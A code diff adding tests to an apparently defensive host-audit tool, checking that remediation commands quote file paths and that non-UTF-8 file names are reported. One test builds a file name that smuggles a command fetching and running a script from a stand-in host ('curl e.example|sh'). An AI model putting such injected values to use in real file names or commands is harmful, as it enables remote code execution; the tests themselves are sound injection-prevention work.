@@ -481,3 +481,46 @@ describe(ROOT, () => {
     expect(r.result).toBe('NOT_APPLICABLE');
   });
 });
+
+describe('recommendations built from host paths', () => {
+  it('quote the paths of the commands they say to run (a file may be named to run a command when pasted)', async () => {
+    const b = cleanHost();
+    const evil = "/opt/app/bin/x$(curl e.example|sh)'q";
+    const srv = b.object(evil, {
+      stat: { mode: 0o100777, uid: 0, gid: 0 },
+      elf: { gnuStack: { present: false } },
+    });
+    b.process({ pid: 950, comm: 'x', exe: evil, exeObject: srv });
+    b.rootOwnedDirectories();
+    const quoted = `'/opt/app/bin/x$(curl e.example|sh)'\\''q'`;
+    const r = await rbaResult(ROOT, b.build());
+    expect(r.result).toBe('FAIL');
+    expect(r.recommendation).toContain(`&& chmod o-w ${quoted}.`);
+    const dep = await rbaResult(DEP, b.build());
+    expect(dep.recommendation).toContain(`patchelf --clear-execstack ${quoted})`);
+  });
+
+  it('report a root process file whose name is not UTF-8 (its owner and mode could not be read), not pass it', async () => {
+    const b = cleanHost();
+    // What the agent's decoding makes of /opt/\xff/run: no file of that name, no stat.
+    const odd = b.object('/opt/\uFFFD/run', {
+      stat: null,
+      elf: { ok: false, reason: 'not-found', detail: 'ENOENT', bytesRead: 0 },
+    });
+    b.process({ pid: 951, comm: 'run', exe: '/opt/\uFFFD/run', exeObject: odd });
+    b.rootOwnedDirectories();
+    b.directories = b.directories!.filter((d) => !d.path.includes('\uFFFD'));
+    const r = await rbaResult(ROOT, b.build());
+    expect(r.result).toBe('FAIL');
+    expect(r.evidence[0]).toMatchObject({
+      source: '/opt/\uFFFD/run',
+      key: 'executable',
+      value: 'name not UTF-8: owner and mode not read',
+    });
+    expect(r.evidence.find((e) => e.source === '/opt/\uFFFD')).toMatchObject({
+      key: 'directory',
+      value: 'name not UTF-8: owner and mode not read',
+    });
+    expect(r.recommendation).toContain('ls -l --quoting-style=escape -- /opt/*');
+  });
+});
